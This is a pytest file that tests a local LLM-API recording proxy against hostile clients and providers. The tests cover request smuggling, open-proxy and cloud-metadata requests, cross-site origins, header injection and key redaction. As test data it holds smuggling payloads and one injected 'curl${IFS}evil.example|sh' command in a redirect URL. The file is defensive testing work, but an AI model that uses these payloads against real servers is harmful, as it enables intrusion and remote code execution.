"""Who tries to use the recorder, or to hide something from it: other programs, web pages, clients and providers."""

import json
import socket
import ssl
import threading
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import httpx2
import pytest
from traces.test_large_runs import places, replaced

from acdl_mkdocs.foundation.errors import RecorderError
from acdl_mkdocs.frontends.cli.main import main
from acdl_mkdocs.prompts.prompt import Json
from acdl_mkdocs.prompts.providers.client_request import ClientRequest
from acdl_mkdocs.prompts.providers.event_stream import read_events
from acdl_mkdocs.prompts.providers.response_formats import RESPONSE_FORMATS
from acdl_mkdocs.prompts.providers.scripted_reply import ScriptedCall
from acdl_mkdocs.prompts.providers.scripted_reply import ScriptedReply as RecordedReply
from acdl_mkdocs.runs.read.bodies import BodyFault, unpack_body
from acdl_mkdocs.runs.record import forward, recording
from acdl_mkdocs.runs.record import server as server_module
from acdl_mkdocs.runs.record.records import build_line, read_reply
from acdl_mkdocs.runs.record.session import RecordingPlan, RecordingSession
from recorder.upstream import Said, path_of, recorded_lines, said_json, script_of, upstream

BODY = b'{"model":"m","messages":[]}'
BEGIN = b"POST BASE/chat/completions HTTP/1.1\r\nHost: HOST\r\n"
WHOLE = b"Content-Length: 27\r\n"
PIECES = b"Transfer-Encoding: chunked\r\n"
KEY = "sk-proj-" + "a1B2c3D4e5" * 4


@pytest.fixture(scope="module")
def session(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RecordingSession]:
    """A run whose script answers everything, for all tests of requests."""
    folder = tmp_path_factory.mktemp("run")
    script = script_of(folder / "r.yaml", "{text: hi, times: any}")
    made = RecordingSession(RecordingPlan(folder / "run.jsonl", script=script), {})
    made.start_recording()
    yield made
    made.stop_recording()


def ask(address: str, request: bytes) -> bytes:
    """What the server answers to bytes; `BASE` and `HOST` in them are those of its address."""
    parts = urlsplit(address)
    with socket.create_connection((parts.hostname or "", parts.port or 0), timeout=600) as connection:
        connection.sendall(request.replace(b"BASE", parts.path.encode()).replace(b"HOST", parts.netloc.encode()))
        connection.shutdown(socket.SHUT_WR)
        found = b""
        while chunk := connection.recv(65536):
            found += chunk
    return found


def statuses(answer: bytes) -> list[int]:
    """The status of each answer."""
    return [int(each[:3]) for each in answer.split(b"HTTP/1.1 ")[1:]]


UNCLEAR = {
    "two lengths": (BEGIN + WHOLE + b"Content-Length: 5\r\n\r\n" + BODY, 400),
    "the same length twice": (BEGIN + WHOLE + WHOLE + b"\r\n" + BODY, 400),
    "a list of lengths": (BEGIN + b"Content-Length: 27, 27\r\n\r\n" + BODY, 400),
    "a length with a sign": (BEGIN + b"Content-Length: +27\r\n\r\n" + BODY, 400),
    "a length and pieces": (BEGIN + WHOLE + PIECES + b"\r\n" + BODY, 400),
    "a length and a coding that is empty": (BEGIN + WHOLE + b"Transfer-Encoding:\r\n\r\n" + BODY, 400),
    "two codings": (BEGIN + PIECES + b"Transfer-Encoding: identity\r\n\r\n0\r\n\r\n", 400),
    "a list of codings": (BEGIN + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n", 501),
    "pieces in HTTP/1.0": (BEGIN.replace(b"1.1", b"1.0") + PIECES + b"\r\n0\r\n\r\n", 501),
    "a blank before the colon": (BEGIN + b"Content-Length : 27\r\n\r\n" + BODY, 400),
    "a folded header": (BEGIN + b"X: a\r\n Content-Length: 3\r\n" + WHOLE + b"\r\n" + BODY, 400),
    "a folded first header": (BEGIN.replace(b"Host", b" Host") + WHOLE + b"\r\n" + BODY, 400),
    "a bare carriage return": (BEGIN + b"X: a\rContent-Length: 3\r\n" + WHOLE + b"\r\n" + BODY, 400),
    "a null character": (BEGIN + b"X: a\0b\r\n" + WHOLE + b"\r\n" + BODY, 400),
    "no name": (BEGIN + b": a\r\n" + WHOLE + b"\r\n" + BODY, 400),
    "no colon": (BEGIN + b"GET / HTTP/1.1\r\n" + WHOLE + b"\r\n" + BODY, 400),
    "two hosts": (BEGIN + b"Host: evil.example\r\n" + WHOLE + b"\r\n" + BODY, 400),
    "a size with a prefix": (BEGIN + PIECES + b"\r\n0x1b\r\n" + BODY + b"\r\n0\r\n\r\n", 400),
    "a size with a sign": (BEGIN + PIECES + b"\r\n+1b\r\n" + BODY + b"\r\n0\r\n\r\n", 400),
    "a size with an underscore": (BEGIN + PIECES + b"\r\n0_1b\r\n" + BODY + b"\r\n0\r\n\r\n", 400),
    "more than the size says": (BEGIN + PIECES + b"\r\n1b\r\n" + BODY + b"more\r\n0\r\n\r\n", 400),
    "a size that a line feed ends": (BEGIN + PIECES + b"\r\n1b\n" + BODY + b"\r\n0\r\n\r\n", 400),
    "an extension that a line feed ends": (BEGIN + PIECES + b"\r\n1b;a\n" + BODY + b"\r\n0\r\n\r\n", 400),
    "a piece that a line feed ends": (BEGIN + PIECES + b"\r\n1b\r\n" + BODY + b"\n0\r\n\r\n", 400),
    "blanks that end in another character": (BEGIN + b"X:" + b" " * 60_000 + b"\0\r\n\r\n", 400),
    "a long extension": (BEGIN + PIECES + b"\r\n1b;" + b"a" * 2000 + b"\r\n" + BODY + b"\r\n0\r\n\r\n", 400),
    "a request in the trailers": (BEGIN + PIECES + b"\r\n0\r\n" + BEGIN + b"\r\n", 400),
    "a length in the trailers": (BEGIN + PIECES + b"\r\n0\r\nContent-Length: 27\r\n\r\n" + BODY, 400),
    "many headers": (BEGIN + b"X: a\r\n" * 101 + b"\r\n", 431),
    "large headers": (BEGIN + (b"X: " + b"a" * 60_000 + b"\r\n") * 5 + b"\r\n", 431),
    "a long line": (b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\n\r\n", 431),
    "an open proxy": (b"GET http://169.254.169.254/latest HTTP/1.1\r\nHost: HOST\r\n\r\n", 400),
    "another host before the path": (BEGIN.replace(b"BASE", b"http://evil.exampleBASE") + WHOLE + b"\r\n" + BODY, 400),
    "an address that is none": (b"GET http://[ HTTP/1.1\r\nHost: HOST\r\n\r\n", 400),
    "slashes and half an address": (b"GET //[ HTTP/1.1\r\nHost: HOST\r\n\r\n", 404),
    "a tunnel": (b"CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: HOST\r\n\r\n", 400),
    "all of the server": (b"OPTIONS * HTTP/1.1\r\nHost: HOST\r\n\r\n", 400),
    "a method that nobody needs": (b"TRACE BASE/x HTTP/1.1\r\nHost: HOST\r\n\r\n", 501),
    "HTTP/0.9": (b"GET BASE/models\r\n\r\n", 400),
    "HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400),
    "TLS": (b"\x16\x03\x01\x02\x00\n\n", 400),
    "a page of another site": (BEGIN + b"Origin: https://evil.example\r\n" + WHOLE + b"\r\n" + BODY, 403),
    "a page of a file": (BEGIN + b"Origin: null\r\n" + WHOLE + b"\r\n" + BODY, 403),
    "a picture on a page": (b"GET BASE/models HTTP/1.1\r\nHost: HOST\r\nSec-Fetch-Site: cross-site\r\n\r\n", 403),
    "a name that leads here": (BEGIN.replace(b"HOST", b"evil.example:80") + WHOLE + b"\r\n" + BODY, 403),
    "a web socket": (BEGIN + b"Upgrade: WebSocket\r\nConnection: Upgrade\r\n\r\n", 501),
}


@pytest.mark.parametrize("name", UNCLEAR)
def test_requests_that_are_refused(session: RecordingSession, name: str) -> None:
    """Each gets one answer in JSON and the end of the connection, so that nothing behind it is read as a request."""
    request, status = UNCLEAR[name]
    n_before = session.lines.n_requests
    answer = ask(session.variables["OPENAI_BASE_URL"], request + BEGIN + WHOLE + b"\r\n" + BODY)
    assert statuses(answer) == [status]
    head, _, body = answer.partition(b"\r\n\r\n")
    assert b"Connection: close" in head
    assert json.loads(body)["error"]["type"] == "refused"
    assert session.lines.n_requests == n_before
    assert session.list_faults() == []


@pytest.mark.parametrize(
    "more",
    [
        b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n",
        b"Sec-Fetch-Mode: cors\r\nSec-Fetch-Site: none\r\n",
        "X: é\t,\r\n".encode(),
        b"X:\r\nY:a\r\n",
    ],
)
def test_requests_that_are_unusual(session: RecordingSession, more: bytes) -> None:
    """What clients of Java and of Node send beside the request changes nothing; several requests may come at once."""
    request = BEGIN + more + WHOLE + b"\r\n" + BODY
    pieces = b"\r\n" + BEGIN + more + PIECES + b'\r\n1B ;a="b"\r\n' + BODY + b"\r\n0\r\nx: y\r\n\r\n"
    assert statuses(ask(session.variables["OPENAI_BASE_URL"], request + pieces + request)) == [200, 200, 200]


def test_several_connection_headers(tmp_path: Path) -> None:
    """All of them count: for the end of the connection, and for headers that are not passed on."""
    more = b"Connection: x-a\r\nX-A: 1\r\nConnection: X-B, Close\r\nX-B: 2\r\nX-C: 3\r\n"
    request = BEGIN + more + WHOLE + b"\r\n" + BODY
    with (
        upstream(said_json({"a": 1})) as provider,
        recording(tmp_path / "run.jsonl", upstreams={"openai": provider.address}) as variables,
    ):
        assert statuses(ask(variables["OPENAI_BASE_URL"], request + request)) == [200]
    (got,) = provider.got
    assert {"x-a", "x-b", "x-c", "connection"} & {*got.headers} == {"x-c"}


def test_a_body_is_asked_for(session: RecordingSession) -> None:
    """A client that waits for a word before its body gets it, but nobody else does."""
    address, more = session.variables["OPENAI_BASE_URL"], b"Expect: 100-continue\r\n" + WHOLE + b"\r\n" + BODY
    assert statuses(ask(address, BEGIN + more)) == [100, 200]
    assert statuses(ask(address, BEGIN.replace(b"BASE", b"/guessed/openai") + more)) == [404]


def test_many_refusals(session: RecordingSession) -> None:
    """They are counted, and one is kept."""
    for _ in range(3):
        ask(session.variables["OPENAI_BASE_URL"], b"GET / HTTP/1.1\r\nHost: HOST\r\n\r\n")
    (said,) = (each for each in session.list_notes() if "refused" in each)
    assert said.count("a call was refused") == 1
    assert "more" in said


def test_slow_strangers(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Who sends a byte now and then without naming the path is hung up on; who has named it may take its time."""
    monkeypatch.setattr(server_module, "_STRANGER_S", 0.2)
    script = script_of(tmp_path / "r.yaml", "{text: hi, times: any}")
    with recording(tmp_path / "run.jsonl", script=script) as variables:
        parts = urlsplit(variables["OPENAI_BASE_URL"])
        where = parts.hostname or "", parts.port or 0
        with socket.create_connection(where, timeout=600) as slow, httpx2.Client(trust_env=False) as known:
            address = f"{variables['OPENAI_BASE_URL']}/chat/completions"
            assert known.post(address, content=BODY).status_code == 200
            is_over, begun = False, time.monotonic()
            while not is_over and time.monotonic() < begun + 20:
                try:
                    slow.sendall(b"G")
                    slow.settimeout(0.05)
                    is_over = slow.recv(10) == b""
                except TimeoutError:
                    pass
                except OSError:
                    is_over = True
            assert is_over
            assert known.post(address, content=BODY).status_code == 200


def test_a_header_of_a_provider_that_is_folded(tmp_path: Path) -> None:
    """It becomes one line, and never a header or an answer of its own."""
    more = {"content-type": "application/json", "x-mine": "a\r\n Set-Cookie: b=c"}
    with (
        upstream(Said([b"{}"], headers=more)) as provider,
        recording(tmp_path / "run.jsonl", upstreams={"openai": provider.address}) as variables,
    ):
        answer = ask(variables["OPENAI_BASE_URL"], BEGIN + WHOLE + b"\r\n" + BODY)
    assert b"\r\nx-mine: a Set-Cookie: b=c\r\n" in answer
    assert statuses(answer) == [200]


def test_headers_of_a_provider_that_no_client_takes(tmp_path: Path) -> None:
    """One whose name is none is left out, and a character that is none becomes a blank."""
    more = {"content-type": "application/json", "x(y)": "a", "x-mine": "a\0b"}
    with (
        upstream(Said([b"{}"], headers=more)) as provider,
        recording(tmp_path / "run.jsonl", upstreams={"openai": provider.address}) as variables,
    ):
        answer = ask(variables["OPENAI_BASE_URL"], BEGIN + WHOLE + b"\r\n" + BODY)
    assert b"\r\nx-mine: a b\r\n" in answer
    assert b"x(y)" not in answer


def test_answers_without_a_body(session: RecordingSession, tmp_path: Path) -> None:
    """No body follows the answer to `HEAD`, which says how long it would be: it would be read as the next answer."""
    head, call = b"HEAD BASE/models HTTP/1.1\r\nHost: HOST\r\n\r\n", BEGIN + WHOLE + b"\r\n" + BODY
    answer = ask(session.variables["OPENAI_BASE_URL"], head + call)
    assert answer.split(b"\r\n\r\n")[1].startswith(b"HTTP/1.1 200")
    said = Said([], headers={"content-length": "12"}), Said([], 204, {}), said_json({"a": 1})
    with (
        upstream(*said) as provider,
        recording(tmp_path / "run.jsonl", upstreams={"openai": provider.address}) as variables,
    ):
        answer = ask(variables["OPENAI_BASE_URL"], head + call + call)
    assert statuses(answer) == [200, 204, 200]
    first, second, _ = answer.split(b"\r\n\r\n", 2)
    assert b"\r\nContent-Length: 12" in first
    assert b"Content-Length" not in second


def test_a_provider_that_only_begins(tmp_path: Path) -> None:
    """A status after which another should come is an error, and the client does not wait for ever."""
    with (
        upstream(Said([b""], 103)) as provider,
        recording(tmp_path / "run.jsonl", upstreams={"openai": provider.address}) as variables,
    ):
        found = httpx2.post(f"{variables['OPENAI_BASE_URL']}/chat/completions", content=BODY, trust_env=False)
    assert (found.status_code, "the response has the interim status 103" in found.text) == (502, True)


def test_a_command_to_copy(tmp_path: Path) -> None:
    """What a provider says is quoted in the command that a message proposes."""
    place = "http://evil.example/;curl${IFS}evil.example|sh/chat/completions"
    with (
        upstream(Said([b""], 307, {"location": place})) as provider,
        pytest.raises(RecorderError) as raised,
        recording(tmp_path / "run.jsonl", upstreams={"openai": provider.address}) as variables,
    ):
        httpx2.post(f"{variables['OPENAI_BASE_URL']}/chat/completions", content=BODY, trust_env=False)
    assert "--upstream 'openai=http://evil.example/;curl${IFS}evil.example|sh'" in str(raised.value)


def test_keys_in_what_went_wrong(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """A provider that cannot be asked, or repeats the key where an answer should be, makes no note with it."""
    broken = f"HTTP/1.1 sk {KEY}\r\n\r\n".encode()
    with socket.create_server(("127.0.0.1", 0)) as listener:
        threading.Thread(target=_answer_once, args=(listener, broken), daemon=True).start()
        address = f"http://127.0.0.1:{listener.getsockname()[1]}"
        session = RecordingSession(RecordingPlan(tmp_path / "run.jsonl", upstreams={"openai": address}), {})
        session.start_recording()
        found = httpx2.post(f"{session.variables['OPENAI_BASE_URL']}/chat/completions", content=BODY, trust_env=False)
        session.stop_recording()
    assert found.status_code == 502
    said = [(tmp_path / "run.jsonl").read_text("utf-8"), *session.list_notes(), *session.list_faults(), found.text]
    assert all("BadStatusLine" in each and "[redacted]" in each and KEY not in each for each in said)
    assert capfd.readouterr() == ("", "")


def _answer_once(listener: socket.socket, answer: bytes) -> None:
    connection, _ = listener.accept()
    with connection:
        connection.recv(65536)
        connection.sendall(answer)


@pytest.mark.parametrize(
    "words",
    [
        ["--upstream", f"https://me:{KEY}@models.example/v1", "--", "true"],
        ["--upstream", f"https://models.example/v1?api_key={KEY}", "--", "true"],
        ["--variable", f"MY_URL={KEY}", "--", "true"],
        ["--", f"OPENAI_API_KEY={KEY}", "python", "agent.py"],
    ],
)
def test_keys_in_the_command(
    words: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A word that is wrong is shown without them."""
    monkeypatch.chdir(tmp_path)
    assert main(["record", "-o", "run.jsonl", *words]) == 2
    said = capsys.readouterr().err
    assert any(words in said for words in (" is not a ", "means nothing", "there is no program"))
    assert KEY not in said


@pytest.mark.parametrize("kind", ["text/event-stream", "Text/Event-Stream", "text/plain", "application/json"])
def test_a_key_in_pieces(tmp_path: Path, kind: str) -> None:
    """What is split between the events of a stream is put together before it is looked at, whatever it is called."""
    pieces = [KEY[:11], KEY[11:30], KEY[30:]]
    events = [b'data: {"choices":[{"index":0,"delta":{"content":"%s"}}]}\n\n' % each.encode() for each in pieces]
    with (
        upstream(Said(events, headers={"content-type": kind})) as provider,
        recording(tmp_path / "run.jsonl", upstreams={"openai": provider.address}) as variables,
    ):
        httpx2.post(f"{variables['OPENAI_BASE_URL']}/chat/completions", content=BODY, trust_env=False)
    text = (tmp_path / "run.jsonl").read_text("utf-8")
    assert not any(each in text for each in pieces)
    assert '"content": "[redacted]"' in text


def test_indices_below_none(tmp_path: Path) -> None:
    """An index that no list has does not break the recording."""
    event = b'data: {"choices":[{"index":-1,"delta":{"tool_calls":[{"index":-1,"id":"a"}]}}]}\n\n'
    with (
        upstream(Said([event], headers={"content-type": "text/event-stream"}), said_json({})) as provider,
        recording(tmp_path / "run.jsonl", upstreams={"openai": provider.address}) as variables,
    ):
        httpx2.post(f"{variables['OPENAI_BASE_URL']}/chat/completions", content=BODY, trust_env=False)
    assert recorded_lines(tmp_path / "run.jsonl")[0]["status"] == 200


WRONG: tuple[Json, ...] = (None, -1, 2**70, "x", [], {}, [{}], {"x": ["x"]})


@pytest.mark.parametrize("name", RESPONSE_FORMATS)
def test_streams_of_any_values(name: str) -> None:
    """Whatever a provider says in whatever place, one line is written, and what is there can be sent again."""
    shape = RESPONSE_FORMATS[name]
    asked = ClientRequest(1, name, "POST", path_of(name), "alt=sse", json={"model": "m", "stream": True})
    said = RecordedReply("1", "hello you", "hm well", (ScriptedCall("f", {"a": ["b c"]}, "i"),), usage=(1, 2))
    whole = shape.build_body(said, asked)
    events: Json = [event.data for event in read_events(b"".join(shape.stream_body(whole, asked)))]
    for number, place in enumerate(places(events)[1:]):
        for wrong in (WRONG[number % len(WRONG)], WRONG[(number + 3) % len(WRONG)]):
            changed = json.loads(json.dumps(replaced(events, place, wrong)))
            body = b"".join(b"data: %s\n\n" % json.dumps(each).encode() for each in changed)
            reply, note = read_reply(asked, body, "text/event-stream", "")
            assert json.dumps(build_line(asked, 200, reply, note, None))
    for place in places(whole)[1:]:
        for wrong in WRONG:
            changed = replaced(whole, place, wrong)
            assert isinstance(changed, dict)
            assert b"".join(shape.stream_body(changed, asked))


def test_certificates() -> None:
    """Providers have to show one that is theirs, through a proxy too."""
    connection, _ = forward._open_connection("https://models.example/v1", "/v1/chat")
    context = connection._context  # type: ignore[attr-defined]
    assert (context.verify_mode, context.check_hostname) == (ssl.CERT_REQUIRED, True)


def test_compressed_many_times() -> None:
    """A body that takes long to unpack is not unpacked, however small it is."""
    packer = zlib.compressobj(wbits=31)
    member = packer.compress(b"") + packer.flush()
    assert unpack_body(member * 100, "gzip", 100) == b""
    with pytest.raises(BodyFault, match="a compressed body consists of more than 100 streams"):
        unpack_body(member * 100_000, "gzip", 100)
    with pytest.raises(BodyFault, match="compressed more than 3 times"):
        unpack_body(b"", "identity, gzip, gzip, gzip", 100)
